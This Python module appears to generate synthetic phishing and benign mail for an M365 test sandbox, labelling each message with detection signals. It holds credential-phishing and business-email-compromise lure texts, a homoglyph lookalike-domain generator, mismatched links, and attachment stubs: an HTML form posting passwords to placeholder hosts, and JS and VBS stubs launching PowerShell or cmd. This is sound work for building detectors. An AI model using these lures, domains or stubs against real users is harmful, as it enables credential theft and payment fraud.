"""What generated mail says: benign templates, phishing templates with their signals, lookalike
domains and attachment bytes. Pure functions of a ``random.Random``."""

from __future__ import annotations

import base64
import random
from dataclasses import dataclass, field

from m365sandbox.generator.common import PARTNER_DOMAINS

VENDORS = (
    ("Northwind Traders", "northwindtraders.com"),
    ("Adventure Works", "adventure-works.com"),
    ("Wide World Importers", "wideworldimporters.com"),
    ("Litware Inc.", "litwareinc.com"),
    ("Proseware", "proseware.com"),
    ("Coho Winery", "coho-winery.com"),
)
NEWSLETTERS = (
    ("Lucerne Publishing Weekly", "news.lucernepublishing.com"),
    ("Trey Research Insights", "insights.treyresearch.net"),
    ("Margie's Travel Deals", "deals.margiestravel.com"),
    ("Alpine Ski House News", "mail.alpineskihouse.com"),
    ("Tailspin Toys Partner Update", "partners.tailspintoys.com"),
)
BRANDS = (
    (
        "Microsoft 365",
        "microsoft.com",
        (
            "rnicrosoft.com",
            "micros0ft-online.com",
            "microsoft-365-support.com",
            "office365-security-alert.com",
        ),
    ),
    ("DocuSign", "docusign.net", ("d0cusign.net", "docusign-secure-envelope.com", "docusiqn.net")),
    ("PayPal", "paypal.com", ("paypa1.com", "paypal-account-review.com")),
    ("DHL Express", "dhl.com", ("dhl-parcel-notice.com", "dh1-express.com")),
    ("SharePoint Online", "sharepoint.com", ("sharepoint-docs-share.com", "sharepointe.com")),
    ("Adobe Sign", "adobe.com", ("ad0be-sign.com", "adobe-documents.net")),
)
PHISH_HOSTS = (
    "login-m365-verify.com",
    "secure-mailbox-auth.net",
    "account-validation-portal.com",
    "owa-session-renew.com",
    "doc-viewer-online.net",
    "198.51.100.23",
    "203.0.113.77",
)
FREEMAIL_LIKE = ("mailbox-secure.net", "inbox-direct.org", "fastmail-box.com")
CYRILLIC = {"o": "\u043e", "a": "\u0430", "e": "\u0435", "c": "\u0441", "p": "\u0440"}
DANGEROUS = (
    ("Invoice_{n}.html", "text/html"),
    ("Remittance_{n}.htm", "text/html"),
    ("Shipment_{n}.iso", "application/x-iso9660-image"),
    ("Scan_{n}.img", "application/octet-stream"),
    ("Document_{n}.lnk", "application/octet-stream"),
    ("payment_{n}.js", "application/javascript"),
    ("Statement_{n}.vbs", "text/vbscript"),
    ("Invoice_{n}.docm", "application/vnd.ms-word.document.macroEnabled.12"),
    ("Q3_Report_{n}.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12"),
    ("secure_documents_{n}.zip", "application/x-zip-compressed"),
)
BENIGN_ATTACH = (
    ("{w}.pdf", "application/pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"),
    (
        "{w}.docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        b"PK\x03\x04\x14\x00\x06\x00",
    ),
    (
        "{w}.xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        b"PK\x03\x04\x14\x00\x06\x00",
    ),
    ("{w}.png", "image/png", b"\x89PNG\r\n\x1a\n"),
)
LURES = (
    (
        "Action required: your password expires today",
        "Your mailbox password expires in 24 hours. To keep your current password, verify your account now.",
    ),
    (
        "Unusual sign-in activity detected",
        "We detected unusual sign-in activity on your account. Please confirm your identity to avoid suspension.",
    ),
    (
        "Your mailbox is almost full",
        "Your mailbox storage has reached 98%. Verify your account to upgrade "
        "your quota or incoming messages will be rejected.",
    ),
    (
        "You have 3 pending messages",
        "3 messages could not be delivered to your inbox. Sign in to release them within 48 hours.",
    ),
    (
        "Document shared with you: Q3 Payroll Adjustments",
        "A secure document has been shared with you. "
        "Review and sign the document using your email credentials.",
    ),
    (
        "Final notice: account suspension",
        "Your account will be suspended. Update your credentials immediately to restore access.",
    ),
)
BEC = (
    (
        "Urgent request",
        "Are you at your desk? I need you to process a wire transfer today, it is confidential. "
        "Reply with your availability, I am in a meeting and can only email.",
    ),
    (
        "Quick favour",
        "I need you to purchase gift cards for a client event. Keep this between us for now, "
        "send me the codes by email.",
    ),
    (
        "Updated bank details for payment",
        "Please note our bank details have changed. Use the new account for "
        "the outstanding invoice payment today, it is urgent.",
    ),
)


@dataclass
class Phish:
    """A generated phishing message before it gets ids and headers."""

    kind: str
    subject: str
    from_name: str
    from_addr: str
    html: str
    spf: str = "pass"
    dkim: str = "pass"
    dmarc: str = "pass"
    reply_to: tuple[str, str] | None = None
    attachments: list[tuple[str, str, bytes]] = field(default_factory=list)
    signals: list[str] = field(default_factory=list)


def homoglyph_domain(rng: random.Random, domain: str) -> str:
    """A lookalike of ``domain``: rn->m, 0->o, l->1, an extra hyphen, a typo or cyrillic (punycode)."""
    label, _, rest = domain.partition(".")
    tricks = ["hyphen", "typo"]
    if "m" in label:
        tricks.append("rn")
    if "o" in label:
        tricks.append("zero")
    if "l" in label:
        tricks.append("one")
    if any(ch in CYRILLIC for ch in label):
        tricks += ["cyrillic", "cyrillic"]
    trick = rng.choice(tricks)
    if trick == "rn":
        fake = label.replace("m", "rn", 1)
    elif trick == "zero":
        fake = label.replace("o", "0", 1)
    elif trick == "one":
        fake = label.replace("l", "1", 1)
    elif trick == "cyrillic":
        ch = next(c for c in label if c in CYRILLIC)
        fake = label.replace(ch, CYRILLIC[ch], 1).encode("idna").decode()
    elif trick == "hyphen":
        fake = label + "-" + rng.choice(("secure", "mail", "portal", "verify"))
    else:
        i = rng.randrange(1, max(2, len(label) - 1))
        fake = label[:i] + label[i] + label[i:] if label[i - 1] != "-" else label + "s"
    return f"{fake}.{rest}" if rest else fake


def phish_link(rng: random.Random, shown: str) -> tuple[str, str]:
    """(href, html anchor) whose visible text names ``shown`` while the href goes elsewhere."""
    host = rng.choice(PHISH_HOSTS)
    token = base64.urlsafe_b64encode(rng.randbytes(12)).decode().rstrip("=")
    href = f"{'http' if host[0].isdigit() else 'https'}://{host}/{rng.choice(('owa', 'auth', 'view', 's'))}/{token}"
    return href, f'<a href="{href}">https://{shown}/</a>'


def attachment_bytes(rng: random.Random, magic: bytes, size: int) -> bytes:
    return magic + rng.randbytes(max(0, size - len(magic)))


def dangerous_attachment(rng: random.Random) -> tuple[str, str, bytes]:
    name, ctype = rng.choice(DANGEROUS)
    name = name.format(n=rng.randint(1000, 9999))
    if ctype == "text/html":
        data = (
            b"<html><body><form action='https://"
            + rng.choice(PHISH_HOSTS).encode()
            + b"/post'><input name='password' type='password'></form></body></html>"
        )
    elif name.endswith(".js"):
        data = b"var s=new ActiveXObject('WScript.Shell');s.Run('powershell -enc ...');"
    elif name.endswith(".vbs"):
        data = b'Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c ..."\r\n'
    else:
        data = attachment_bytes(
            rng,
            b"PK\x03\x04" if name.endswith(("docm", "xlsm", "zip")) else b"\x00" * 4,
            rng.randint(600, 2400),
        )
    return name, ctype, data


def benign_attachment(rng: random.Random, word: str) -> tuple[str, str, bytes]:
    name, ctype, magic = rng.choice(BENIGN_ATTACH)
    return name.format(w=word), ctype, attachment_bytes(rng, magic, rng.randint(400, 3000))


def make_phish(
    rng: random.Random, *, tenant_domain: str, user_name: str, executive: tuple[str, str] | None
) -> Phish:
    """One phishing message with at least two independent signals (listed in ``signals``)."""
    kind = (
        rng.choice(("brand", "brand", "tenant", "bec", "invoice", "malware"))
        if executive
        else rng.choice(("brand", "brand", "tenant", "invoice", "malware"))
    )
    first = user_name.split(" ")[0]
    if kind == "bec" and executive:
        subject, text = rng.choice(BEC)
        local = executive[1].split("@")[0].replace(".", rng.choice((".", "_", "")))
        dom = rng.choice((homoglyph_domain(rng, tenant_domain), rng.choice(FREEMAIL_LIKE)))
        p = Phish(
            "bec",
            subject,
            executive[0],
            f"{local}@{dom}",
            f"<html><body><p>Hi {first},</p><p>{text}</p><p>Sent from my iPhone</p></body></html>",
            signals=["display_name_impersonation", "external_sender"],
        )
        if rng.random() < 0.6:
            p.reply_to = (executive[0], f"{local}.private@{rng.choice(FREEMAIL_LIKE)}")
            p.signals.append("reply_to_mismatch")
        if dom != tenant_domain and "-" not in dom and rng.random() < 0.5:
            p.dmarc, p.signals = "fail", [*p.signals, "auth_fail"]
        return p
    if kind in ("brand", "tenant"):
        subject, text = rng.choice(LURES)
        if kind == "brand":
            brand, real, fakes = rng.choice(BRANDS)
            dom, name, shown = rng.choice(fakes), brand, f"login.{real}" if real == "microsoft.com" else real
        else:
            dom = homoglyph_domain(rng, tenant_domain)
            name, shown = (
                rng.choice(("IT Service Desk", "Mail Administrator", "IT Support")),
                f"portal.{tenant_domain}",
            )
        href, anchor = phish_link(rng, shown)
        p = Phish(
            kind,
            subject,
            name,
            f"{rng.choice(('no-reply', 'security', 'admin', 'support'))}@{dom}",
            f"<html><body><p>Dear {first},</p><p>{text}</p><p>{anchor}</p>"
            f"<p>Thank you,<br>{name} Team</p></body></html>",
            signals=["lookalike_domain", "credential_language", "link_mismatch"],
        )
        if rng.random() < 0.5:
            p.spf, p.dmarc = rng.choice(("fail", "softfail")), "fail"
            p.signals.append("auth_fail")
        if rng.random() < 0.2:
            p.attachments.append(
                (
                    "Secure_Message.html",
                    "text/html",
                    f"<html><script>location='{href}'</script></html>".encode(),
                )
            )
            p.signals.append("dangerous_attachment")
        return p
    vendor, vdom = rng.choice(VENDORS)
    n = rng.randint(10000, 99999)
    if kind == "invoice":
        dom = homoglyph_domain(rng, vdom)
        p = Phish(
            "invoice",
            f"Invoice INV-{n} overdue - payment required",
            f"{vendor} Accounts",
            f"billing@{dom}",
            f"<html><body><p>Hello {first},</p><p>Invoice INV-{n} is overdue. Please process the payment "
            f"today using the updated bank details in the attached document.</p></body></html>",
            signals=["lookalike_domain", "payment_language"],
        )
        if rng.random() < 0.6:
            p.reply_to = (
                f"{vendor} Accounts",
                f"accounts.{vendor.split()[0].lower()}@{rng.choice(FREEMAIL_LIKE)}",
            )
            p.signals.append("reply_to_mismatch")
        if rng.random() < 0.6:
            p.attachments.append(dangerous_attachment(rng))
            p.signals.append("dangerous_attachment")
        else:
            p.spf, p.dkim, p.dmarc = "fail", "none", "fail"
            p.signals.append("auth_fail")
        return p
    att = dangerous_attachment(rng)
    body = "Please find the attached document and open it to view the shipment details."
    if att[0].endswith(".zip"):
        body += f" The archive is password protected, the password is {rng.randint(1000, 9999)}."
    dom = rng.choice((homoglyph_domain(rng, vdom), rng.choice(PARTNER_DOMAINS).replace(".", "-docs.", 1)))
    p = Phish(
        "malware",
        rng.choice(("Shipment documents", "Scanned document", "Remittance advice", "Payment copy")),
        rng.choice(("Scanner", vendor, "Logistics Team")),
        f"documents@{dom}",
        f"<html><body><p>{body}</p></body></html>",
        spf="softfail",
        dkim="fail",
        dmarc="fail",
        attachments=[att],
        signals=["dangerous_attachment", "auth_fail"],
    )
    return p
